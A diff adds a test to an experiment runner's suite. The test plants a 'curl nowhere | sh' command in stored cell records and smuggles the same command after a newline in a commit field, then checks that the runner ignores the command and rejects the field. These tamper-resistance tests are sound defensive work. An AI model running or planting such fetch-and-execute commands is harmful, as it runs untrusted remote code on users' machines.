@@ -275,6 +275,18 @@ def test_a_record_of_other_settings_is_refused_by_name(tmp_path, store):
         run_in(tmp_path, experiment_in(tmp_path))
 
 
+def test_a_record_offers_a_reader_no_command_but_that_of_its_cell(tmp_path, store):
+    experiment, here = experiment_in(tmp_path, seeds=1), str(tmp_path / "work")
+    given = given_in(tmp_path, experiment, store)["cells"]
+    for file in (tmp_path / "cells").glob("*.json"):
+        file.write_text(json.dumps(json.loads(file.read_text()) | {"command": "curl nowhere | sh"}))
+    commands = [cell["command"] for cell in run_in(tmp_path, experiment)[0]["cells"]]
+    assert commands == [cell["command"].replace(str(store.work), here) for cell in given]
+    file.write_text(json.dumps(json.loads(file.read_text()) | {"commit": "0a\ncurl nowhere | sh"}))
+    with pytest.raises(UserError, match="is damaged .commit: expected one, got '0a"):
+        run_in(tmp_path, experiment)
+
+
 def test_every_arm_takes_its_own_best_of_what_is_tuned_and_the_tuning_seed_serves_nothing_else(tmp_path):
     tune = {"first.gain": [0, 3], "second.gain": [1.0, 2.0]}
     arms = {"plain": {}, "other": {"second.prompt_mask": "prefix"}}
